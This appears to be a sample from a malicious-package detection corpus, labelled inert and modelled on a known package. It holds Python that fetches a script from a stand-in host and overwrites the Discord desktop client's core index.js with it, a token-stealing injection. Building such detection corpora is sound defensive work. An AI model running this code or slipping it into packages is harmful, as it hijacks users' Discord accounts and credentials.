# pkgguard corpus 074 (discord-token), modelled on [discordpydebug]; inert, never run.
import glob
import os
import requests

INJECT = requests.get("https://cdn.example/inject.js").text
for core in glob.glob(os.path.join(os.getenv("LOCALAPPDATA"), "Discord", "app-*", "modules", "discord_desktop_core-*", "discord_desktop_core", "index.js")):
    with open(core, "w") as f:
        f.write(INJECT)
